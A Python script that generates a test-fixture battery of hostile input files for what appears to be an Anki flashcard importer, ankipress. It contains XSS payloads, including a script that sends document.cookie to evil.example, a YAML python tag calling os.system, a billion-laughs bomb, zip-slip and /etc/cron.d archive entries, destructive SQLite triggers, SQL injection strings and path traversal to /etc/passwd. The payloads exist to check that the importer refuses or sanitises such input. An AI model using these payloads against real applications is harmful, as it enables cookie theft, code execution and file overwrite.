"""The hostile-input battery: every case of ``tests/golden/hostile/``, built byte by byte.

Each case is one input file whose expected outcome sits beside it, as for every golden test
(``test_golden.py`` checks it): ``<case>.expected.json`` for an input that is read correctly,
``<case>.err`` for one that is refused with its ``path:line[:col]: error: message`` lines.
``<case>.options.json`` holds the options a case is built with. ``test_hostile.py`` runs
every case through the command line as well: exit 1 without a traceback and nothing written
for an error, exit 0 and a package otherwise.

The bytes are made here rather than typed, since many are what no editor writes (invalid
UTF-8, NUL, lone surrogates, CR alone, hostile zip archives)::

    python tests/hostile_cases.py    # rewrites tests/golden/hostile/; then --update-goldens

Names say the area: ``enc_`` encodings, ``struct_`` structure, ``content_`` what fields
hold, ``pkg_`` Anki packages (``tests/golden/apkg/`` has more), ``media_`` media names.
Media files the cases refer to live in ``tests/golden/hostile/media/``.
"""

from __future__ import annotations

import json
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from ankipress.model import NoteKind, NoteType, RenderedNote, SourceLocation
from ankipress.writers.apkg import write_apkg
from hostile_apkg import PNG, Entry, collection_db, deflated, legacy_package, raw_zip, stored

__all__ = ["CASES", "HOSTILE", "MEDIA", "OPTIONS", "build_all"]

HOSTILE = Path(__file__).parent / "golden" / "hostile"
T0 = 1_700_000_000


def _utf16(text: str, order: str = "le") -> bytes:
    bom = b"\xff\xfe" if order == "le" else b"\xfe\xff"
    return bom + text.encode(f"utf-16-{order}")


def _database(notes: list[RenderedNote]) -> bytes:
    """The collection a package of these notes holds (our writer's, genanki's schema)."""
    with tempfile.TemporaryDirectory() as work:
        package = Path(work) / "p.apkg"
        write_apkg(package, notes, T0)
        with zipfile.ZipFile(package) as archive:
            return archive.read("collection.anki2")


def _note(question: str, answer: str, **changes: object) -> RenderedNote:
    note = RenderedNote(
        guid=f"hostile-{question[:12]}",
        deck="Hostile",
        fields=(question, answer),
        tags=(),
        location=SourceLocation("hostile"),
    )
    return replace(note, **changes)  # type: ignore[arg-type]


def _with_entry(name: str) -> bytes:
    """A sound legacy package with one more entry whose name is a path."""
    entries = [
        deflated("collection.anki2", collection_db()),
        stored("media", b"{}"),
        stored(name, b"#!/bin/sh\necho pwned\n"),
    ]
    return raw_zip(entries)


def _overlapping() -> bytes:
    database = deflated("collection.anki2", collection_db())
    return raw_zip([database, Entry("media", b"", size=0, same_offset_as=0)])


def _triggers_and_views() -> bytes:
    sql = """
        CREATE TABLE log (x);
        CREATE TRIGGER wipe AFTER INSERT ON cards BEGIN DELETE FROM notes; END;
        CREATE TRIGGER spy BEFORE DELETE ON notes BEGIN INSERT INTO log VALUES (old.flds); END;
        CREATE VIEW forever AS WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r)
            SELECT x FROM r;
        CREATE VIEW bomb AS SELECT randomblob(1000000000);
    """
    return legacy_package(collection_db(sql), {}, {})


def _renamed_media() -> bytes:
    notes = [
        _note("What is in the picture?", 'A cat: <img src="what?.png">'),
        _note("And in this one?", '<img src="CON.png"> [sound:nul.mp3]'),
    ]
    media = {"0": "what?.png", "1": "CON.png", "2": "nul.mp3"}
    return legacy_package(_database(notes), media, {"0": PNG, "1": PNG + b"\0", "2": b"ID3"})


def _encoded_media_name() -> bytes:
    notes = [_note("Where does this picture go?", '<img src="..%2F..%2Fevil.png">')]
    return legacy_package(_database(notes), {"0": "..%2F..%2Fevil.png"}, {"0": PNG})


def _surrogate_media_name() -> bytes:
    entries = [
        deflated("collection.anki2", collection_db()),
        stored("media", b'{"0": "evil\\ud800.png"}'),
        stored("0", PNG),
    ]
    return raw_zip(entries)


def _script_fields() -> bytes:
    steal = "<script>fetch('https://evil.example/?'+document.cookie)</script>"
    gif = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
    notes = [
        _note(f"<b>Bold</b> question{steal}", f'<img src="{gif}" onerror="steal()">'),
        _note("Framed", '<iframe src="x.html"></iframe><a href="javascript:steal()">x</a>'),
    ]
    return legacy_package(_database(notes), {}, {})


_SCRIPTED = NoteType(
    name="Scripted",
    fields=("Front", "Back"),
    templates=(
        (
            "Card 1",
            "{{Front}}<script>fetch('https://evil.example/')</script>",
            "{{FrontSide}}<hr id=answer>{{Back}}",
        ),
    ),
    css=".card { color: black; }",
    fixed_id=1_700_000_000_123,
)


def _script_template() -> bytes:
    note = _note("Front text", "Back text", kind=NoteKind.CUSTOM, notetype=_SCRIPTED)
    return legacy_package(_database([note]), {}, {})


_BILLION_LAUGHS = """---
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
tags: *g
---
## What is a billion laughs?
A YAML bomb.
"""

_HTML_EXPORT = (
    b"#separator:tab\n#html:true\n"
    b"<b>Bold</b> <script>steal()</script>\t"
    b'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="steal()">\n'
    b'<iframe src="https://evil.example/"></iframe> q2\t<a href="javascript:steal()">link</a>\n'
)

CASES: dict[str, Callable[[], bytes]] = {
    # -- encodings ----------------------------------------------------------------------------
    # The é on line 1 says "UTF-8": the stray byte on line 2 is an error, not a guess.
    "enc_invalid_utf8.txt": lambda: b"caf\xc3\xa9\tcoffee house\nthe \xff tea\ttea\n",
    "enc_invalid_utf8_bom.csv": lambda: b"\xef\xbb\xbfquestion,answer\nq1,a\xe91\n",
    "enc_utf16le_bom.txt": lambda: _utf16("der Hund\tthe dog\nStra\u00dfe\tstreet\n"),
    "enc_utf16be_bom.csv": lambda: _utf16("question,answer\n\u03a9,omega\n", "be"),
    "enc_nul_byte.txt": lambda: b"first\tone\nsec\x00ond\ttwo\n",
    "enc_nul_utf16.txt": lambda: _utf16("first\tone\nsec\x00ond\ttwo\n"),
    "enc_lone_surrogate_utf16.txt": lambda: (
        _utf16("first\tone\n") + b"\x00\xd8" + "x\ty\n".encode("utf-16-le")
    ),
    "enc_lone_surrogate_utf8.txt": lambda: b"caf\xc3\xa9\tcoffee\nx\xed\xa0\x80y\tz\n",
    "enc_surrogate_escape_yaml.md": lambda: (
        b'---\ndeck: "Bio\\ud800logy"\n---\n## What is a cell?\nThe unit of life.\n'
    ),
    "enc_surrogate_escape_meta.md": lambda: (
        b'## What is a cell?\n<!-- guid: "\\udc00x" -->\nThe unit of life.\n'
    ),
    "enc_nfd_and_nfc_one_guid.txt": lambda: (
        "e\u0301te\u0301\tsummer\n\u00e9t\u00e9\tsummer\n".encode()
    ),
    "enc_control_characters.txt": lambda: (
        b"Field\x1fseparator\ttab\x07bell\nform\x0cfeed\tvertical\x0btab \x1b[31mred\n"
    ),
    "enc_mixed_line_ends.txt": lambda: b"one\t1\r\ntwo\t2\rthree\t3\nfour\t4",
    "enc_empty.txt": lambda: b"",
    "enc_bom_only.csv": lambda: b"\xef\xbb\xbf",
    "enc_blank_lines.md": lambda: b"\n\n   \n\t\n",
    # -- structure ----------------------------------------------------------------------------
    "struct_unterminated_quote.csv": lambda: (
        b'question,answer\nq1,a1\n"q2 opens a quote,a2\nq3,a3\nq4,a4,extra\n'
    ),
    "struct_unterminated_quote_anki.txt": lambda: (
        b'#separator:tab\n#html:false\nq1\ta1\nq2\t"never closed\nq3\ta3\n'
    ),
    "struct_ragged_rows.csv": lambda: b"q1,a1\nq2\nq3,a3,tag,extra\n\nq5,a5\n",
    "struct_header_columns_missing.txt": lambda: (
        b"#separator:tab\n#guid column:9\n#deck column:4\nq1\ta1\nq2\ta2\n"
    ),
    "struct_header_names_twice.csv": lambda: b"question,answer,tags,tag\nq,a,t1,t2\n",
    # Found by fuzz/fuzz_readers.py: "³" is a digit to str.isdigit(), not to int().
    "struct_fuzz_superscript_column.txt": lambda: (
        "#separator:tab\n#deck column:\u00b3\nq1\ta1\tDeck\n".encode("cp1252")
    ),
    "struct_superscript_card_number.md": lambda: (
        "## {{c1::Paris}}\n<!-- cards: \u00b3 -->\n".encode()
    ),
    # Found by fuzz/fuzz_readers.py: rows padded with empty cells crashed the width check.
    "struct_fuzz_padded_rows.csv": lambda: (
        b" TERM ,Definition,tag,Dace,Xy7#pQ\nmoon,Earth's satelutf_7spte,,\n"
    ),
    "struct_md_nested_brackets.md": lambda: (
        b"## Nested brackets\n" + b"[" * 5000 + b"x" + b"]" * 5000 + b"\n"
    ),
    "struct_md_open_brackets.md": lambda: b"## Open brackets\n" + b"[" * 20000 + b"\n",
    "struct_md_link_parens.md": lambda: b"## Links never closed\n" + b"[a](" * 3000 + b"\n",
    "struct_md_many_stars.md": lambda: (
        b"## Stars\n"
        + b"*" * 5000
        + b"\n\n"
        + b"_" * 5000
        + b"\n\n"
        + b"*a " * 3000
        + b"\n\n"
        + b"**" * 2500
        + b"x"
        + b"**" * 2500
        + b"\n"
    ),
    "struct_md_deep_lists.md": lambda: (
        b"## Deep lists\n" + b"\n".join(b"  " * i + b"- x" for i in range(300)) + b"\n"
    ),
    "struct_md_deep_quotes.md": lambda: b"## Deep quotes\n" + b">" * 3000 + b" x\n",
    "struct_yaml_billion_laughs.md": lambda: _BILLION_LAUGHS.encode(),
    "struct_yaml_deep_nesting.md": lambda: (
        b"---\ndeck: " + b"[" * 5000 + b"]" * 5000 + b"\n---\n## q\na\n"
    ),
    "struct_yaml_python_tag.md": lambda: (
        b"---\ndeck: !!python/object/apply:os.system ['echo pwned']\n---\n## q\na\n"
    ),
    "struct_front_matter_too_large.md": lambda: (
        b"---\ndeck: Big\n# " + b"x" * 70_000 + b"\n---\n## q\na\n"
    ),
    # -- content ------------------------------------------------------------------------------
    "content_script_plain.txt": lambda: (
        b"<script>alert(1)</script>\t<img src=x onerror=alert(1)>\n"
        b'<iframe src="https://evil.example/"></iframe>\tframe & "quotes"\n'
    ),
    "content_script_markdown.md": lambda: (
        b"## <script>alert(1)</script>\n"
        b'<img src=x onerror=alert(1)> <iframe src="https://evil.example/">\n\n'
        b"## Links\n[click](javascript:alert(1)) and <javascript://%0aalert(1)>\n"
    ),
    "content_script_html.txt": lambda: _HTML_EXPORT,
    "content_script_html_sanitized.txt": lambda: _HTML_EXPORT,
    "content_sanitize_obfuscated.txt": lambda: (
        b"#separator:tab\n#html:true\n"
        b'<svg/onload=steal()>svg</svg>\t<a href="jav&#x09;ascript:steal()">tab</a>\n'
        b'<IMG SRC="data:image/gif;base64,R0lGOD" OnError=steal()>\t'
        b'<iframe srcdoc="&lt;script&gt;steal()&lt;/script&gt;"></iframe>\n'
        b'<object data="evil.swf"></object> object\t'
        b'<a href="data:text/html,&lt;script&gt;steal()&lt;/script&gt;">data</a>\n'
        b'<font color="red">kept</font> <b>kept</b>\t<div style="color: blue">kept</div>\n'
    ),
    "content_html_allowed_markdown.md": lambda: (
        b'## Allowed HTML\n<div onclick="steal()">click</div>\n'
    ),
    "content_sql_metacharacters.csv": lambda: (
        b"question,answer\n"
        b"\"Robert'); DROP TABLE notes;--\",\"' OR '1'='1\"\n"
        b'"50% off; _under_ \\\\ back","""quoted"" -- comment /* c */ \x60tick\x60"\n'
    ),
    "content_genanki_join_collision.txt": lambda: b"a__b\tc\na\tb__c\n",
    # -- packages (tests/golden/apkg/ holds bombs, truncation, traversal, encryption) ---------
    "pkg_zip_slip_entry.apkg": lambda: _with_entry("../../evil.sh"),
    "pkg_absolute_entry.apkg": lambda: _with_entry("/etc/cron.d/ankipress"),
    "pkg_duplicate_entries.apkg": lambda: raw_zip(
        [
            deflated("collection.anki2", collection_db()),
            stored("media", b"{}"),
            stored("media", b'{"0": "x.png"}'),
        ]
    ),
    "pkg_overlapping_entries.apkg": _overlapping,
    "pkg_sqlite_triggers_views.apkg": _triggers_and_views,
    "pkg_media_renamed.apkg": _renamed_media,
    "pkg_media_encoded_name.apkg": _encoded_media_name,
    "pkg_media_surrogate_name.apkg": _surrogate_media_name,
    "pkg_script_in_fields.apkg": _script_fields,
    "pkg_script_in_template.apkg": _script_template,
    "pkg_empty.apkg": lambda: b"",
    # Found by fuzz/fuzz_readers.py: a zip of no entries crashed the overlap check.
    "pkg_fuzz_empty_zip.apkg": lambda: raw_zip([]),
    "pkg_bare_sqlite.apkg": collection_db,
    # -- media names ---------------------------------------------------------------------------
    "media_traversal_in_markdown.md": lambda: (
        b"## Up\n![x](../../../README.md)\n\n"
        b"## Encoded\n![x](..%2F..%2F..%2FREADME.md)\n\n"
        b"## Absolute\n![x](/etc/passwd)\n\n"
        b"## Fine\n![x](media/what%20is%20%231.png)\n"
    ),
    "media_renamed_as_anki_would.md": lambda: (
        b"## What is this?\n![a cat](media/what%20is%20%231.png)\n\n"
        b"## And this?\n![a cat](<media/what is #1.png>)\n"
    ),
    "media_executables.md": lambda: (
        b"## Program\n![x](media/tool.exe)\n\n## Script\n[sound:media/payload.js]\n"
    ),
}

OPTIONS: dict[str, dict[str, object]] = {
    "content_script_html_sanitized.txt": {"sanitize": True},
    "content_sanitize_obfuscated.txt": {"sanitize": True},
    "content_html_allowed_markdown.md": {"allow_html": True},
}
MEDIA: dict[str, bytes] = {
    "what is #1.png": PNG,
    "tool.exe": b"MZ\x90\x00 not really a program",
    "payload.js": b"fetch('https://evil.example/')\n",
}


def build_all(folder: Path = HOSTILE) -> None:
    """Write every case, its options and the media into ``folder``."""
    (folder / "media").mkdir(parents=True, exist_ok=True)
    for name, make in CASES.items():
        (folder / name).write_bytes(make())
        options = OPTIONS.get(name)
        sidecar = folder / f"{Path(name).stem}.options.json"
        if options is not None:
            sidecar.write_text(json.dumps(options, indent=2) + "\n", encoding="utf-8")
    for name, data in MEDIA.items():
        (folder / "media" / name).write_bytes(data)


if __name__ == "__main__":
    build_all()
    print(f"wrote {len(CASES)} cases into {HOSTILE}", file=sys.stderr)
